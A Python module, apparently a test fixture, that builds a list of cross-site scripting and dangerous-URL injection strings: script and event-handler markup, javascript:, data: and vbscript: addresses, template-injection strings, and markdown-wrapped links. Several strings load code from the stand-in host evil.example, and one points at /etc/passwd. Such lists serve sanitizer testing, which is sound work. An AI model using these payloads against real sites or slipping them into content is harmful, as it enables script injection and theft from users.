"""Strings that would like to become script, markup or a dangerous address."""

from __future__ import annotations

_CALLS = ("alert(1)", "window.broken=1", "fetch('//evil.example')", "import('//evil.example/x.js')")
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onbegin")  # fmt: skip
_MARKUP = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<img src=x {handler}={call}>",
    "<svg {handler}={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate {handler}={call} attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:{call}>x",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=javascript:{call}>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<form action=javascript:{call}><button>go",
    "<a href=javascript:{call}>x</a>",
    "<details open {handler}={call}>",
    "<input autofocus {handler}={call}>",
    "<video><source {handler}={call}></video>",
    "<style>@import '//evil.example/x.css';</style><b {handler}={call}>",
    "<link rel=stylesheet href=//evil.example/x.css><i {handler}={call}>",
    "<base href=//evil.example/><u {handler}={call}>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x {handler}={call}>'>",
    "</textarea><script>{call}</script>",
    '"><img src=x {handler}={call}>',
    "'-{call}-'",
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<practice-chat server=//evil.example {handler}={call}>",
    "<!--<img src='--><img src=x {handler}={call}>'>",
    "<x {handler}={call} tabindex=0 id=x>",
)
_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "\x01javascript:{call}",
    "javascript\x3a{call}",
    "&#106;avascript:{call}",
    "javascript://evil.example/%0a{call}",
    "javascript:/*--></title></style></script><svg onload={call}>",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{call}",
    "blob:https://evil.example/{call}",
    "file:///etc/passwd#{call}",
    "filesystem:http://evil.example/{call}",
    "intent://evil.example#{call}",
    "view-source:javascript:{call}",
    "about:blank#{call}",
    "ws://evil.example/{call}",
)
_WRAPPED = ("{0}", "[x]({0})", "**[x]({0})**", "[![x]({0})]({0})", "<{0}>", "- [x]({0})")


def injections() -> list[str]:
    """Return all strings, each once."""
    markup = [
        pattern.format(call=call, handler=_HANDLERS[(place + turn) % len(_HANDLERS)])
        for place, pattern in enumerate(_MARKUP)
        for turn, call in enumerate(_CALLS)
    ]
    addresses = [
        wrap.format(address.format(call=_CALLS[(place + turn) % len(_CALLS)]))
        for place, address in enumerate(_ADDRESSES)
        for turn, wrap in enumerate(_WRAPPED)
    ]
    return list(dict.fromkeys(markup + addresses))
